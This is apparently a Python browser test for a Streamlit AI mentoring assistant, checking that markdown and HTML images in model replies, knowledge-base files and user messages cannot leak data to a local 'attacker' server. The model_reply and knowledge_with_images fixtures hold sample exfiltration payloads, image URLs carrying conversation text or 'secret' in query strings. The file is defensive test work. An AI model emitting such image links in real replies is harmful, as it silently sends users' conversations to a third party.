"""No zero-click leak through markdown images (issue 9 §1), in a real browser.

A local "attacker" HTTP server on 127.0.0.1 counts every request it gets, by path. The
real page (`streamlit run app.py`) runs in model mode against tests/fake_openai.py, whose
reply carries images pointing at the attacker (inline, by reference, raw HTML, in the
Next action line), over a knowledge base holding a passage (and a title) with an image,
and the user types a message with an image. Chromium renders all of it, the Sources panel
is opened, and the attacker must have received zero requests from each of the three.

A control runs the same markdown through a bare `st.markdown` page: there the attacker
does get the requests, so a zero above means the sanitiser stopped them, not that the
browser could not reach the attacker.
"""

from __future__ import annotations

import shutil
import threading
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from assistant import Mentor, Settings
from page_server import CHROMIUM, CHROMIUM_ARGS, PageServer
from tests.conftest import KNOWLEDGE
from tests.fake_openai import FakeOpenAI

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not Path(CHROMIUM).exists(),
                       reason=f"{CHROMIUM} is not installed (apt-get install -y chromium); the browser test needs it"),
]

GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")
QUESTION = "I'm stuck in a rut at work, how do I get out?"


class Attacker:
    """Counts requests per first path segment ("/model-inline?c=..." -> "model-inline")."""

    def __init__(self) -> None:
        self.hits: Counter[str] = Counter()
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                attacker.hits[self.path.split("?")[0].strip("/").split("/")[0]] += 1
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(GIF)))
                self.end_headers()
                self.wfile.write(GIF)

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def count(self, prefix: str) -> int:
        return sum(n for path, n in self.hits.items() if path.startswith(prefix))

    def __enter__(self) -> "Attacker":
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


def model_reply(att: str) -> str:
    return (
        "**Where you are on the wheel:** most likely at Deliver Results [1].\n\n"
        f"![progress chart]({att}/model-inline?c=the+whole+conversation)\n\n"
        "**What the flywheel says:** results build the track record that trust is made of [1]. "
        f"![logo][chart] and <img src=\"{att}/model-html?c=1\"> and [a link]({att}/model-link)\n\n"
        f"[chart]: {att}/model-ref?c=2\n\n"
        f"**Next action:** Deliver one commitment this week ![x]({att}/model-next?c=3)\n\n"
        "**Where I might be wrong:** I only know what you told me."
    )


def knowledge_with_images(tmp: Path, att: str) -> Path:
    target = tmp / "knowledge"
    shutil.copytree(KNOWLEDGE, target)
    (target / "stuck-in-a-rut.md").write_text(
        "---\n"
        f'title: "Stuck in a rut ![t]({att}/knowledge-title)"\n'
        "kind: article\n"
        "---\n\n"
        "# Stuck in a rut\n\n"
        f"When you are stuck in a rut at work ![rut]({att}/knowledge-passage?p=1) the way out is to deliver "
        "results again: do what you are asked, on time, and get out of the rut one commitment at a time. "
        f"<img src=\"{att}/knowledge-html\"> Being stuck in a rut at work is where every spin can restart.\n",
        encoding="utf-8",
    )
    return target


@pytest.fixture
def attacker():
    with Attacker() as att:
        yield att


def launch(pw):
    return pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)


def test_no_request_reaches_the_attacker_from_model_knowledge_or_user(attacker, home_copy, tmp_path):
    sync_playwright = pytest.importorskip("playwright.sync_api").sync_playwright
    att = attacker.url
    knowledge = knowledge_with_images(tmp_path, att)
    Mentor(Settings(home=home_copy, knowledge_dir=knowledge, provider="offline")).index()  # adds the new file
    with FakeOpenAI() as model:
        model.default_reply = model_reply(att)
        env = {"MENTOR_HOME": str(home_copy), "MENTOR_KNOWLEDGE_DIR": str(knowledge), "MENTOR_PROVIDER": "openai",
               "OPENAI_BASE_URL": model.base_url, "OPENAI_API_KEY": "sk-test-zero-click-0123456789",
               "MENTOR_MAX_RETRIES": "0"}
        with PageServer(env, log_path=tmp_path / "streamlit.log") as server, sync_playwright() as pw:
            browser = launch(pw)
            try:
                page = browser.new_page(viewport={"width": 1400, "height": 1000})
                page.goto(server.url, wait_until="domcontentloaded")
                box = page.get_by_test_id("stChatInputTextArea")
                box.wait_for(timeout=180_000)

                box.fill(QUESTION)
                box.press("Enter")
                messages = page.get_by_test_id("stChatMessage")
                answer = messages.nth(1)
                answer.get_by_text("Where I might be wrong", exact=False).first.wait_for(timeout=120_000)
                sources = answer.get_by_test_id("stExpander")
                sources.locator("summary").click()
                sources.locator("blockquote").first.wait_for(timeout=10_000)
                shown_sources = sources.inner_text()

                box.fill(f"Thanks! Here is my chart ![me]({att}/user-inline?c=secret) and "
                         f"<img src=\"{att}/user-html\"> ![ref][u]\n\n[u]: {att}/user-ref")
                box.press("Enter")
                messages.nth(3).wait_for(timeout=120_000)
                page.wait_for_timeout(2_000)  # any image would have been requested by now
                answer_text = answer.inner_text()
                user_text = messages.nth(2).inner_text()
                assert len(model.chat_requests) >= 1  # the reply really came from the model
            finally:
                browser.close()

    print(f"attacker requests: {dict(attacker.hits)}")
    assert attacker.count("model") == 0, attacker.hits
    assert attacker.count("knowledge") == 0, attacker.hits
    assert attacker.count("user") == 0, attacker.hits
    assert sum(attacker.hits.values()) == 0, attacker.hits
    assert "(image not shown: progress chart)" in answer_text  # the image became text, visibly
    assert "a link (127.0.0.1)" in answer_text
    assert "stuck in a rut" in shown_sources.lower() and "(image not shown: rut)" in shown_sources
    assert "(image not shown: me)" in user_text


def test_control_unsanitised_markdown_would_reach_the_attacker(attacker, tmp_path):
    """Without the sanitiser, Streamlit renders the same markdown and Chromium fetches the images."""
    sync_playwright = pytest.importorskip("playwright.sync_api").sync_playwright
    script = tmp_path / "raw_markdown.py"
    script.write_text(
        "import streamlit as st\n"
        f"st.markdown({model_reply(attacker.url)!r})\n"
        f"st.markdown('![u]({attacker.url}/control-user)')\n",
        encoding="utf-8",
    )
    with PageServer({}, script=script, log_path=tmp_path / "control.log") as server, sync_playwright() as pw:
        browser = launch(pw)
        try:
            page = browser.new_page()
            page.goto(server.url, wait_until="domcontentloaded")
            page.get_by_test_id("stMarkdown").first.wait_for(timeout=60_000)
            page.wait_for_timeout(2_000)
        finally:
            browser.close()
    assert attacker.count("model-inline") >= 1 and attacker.count("model-ref") >= 1
    assert attacker.count("model-next") >= 1 and attacker.count("control-user") >= 1
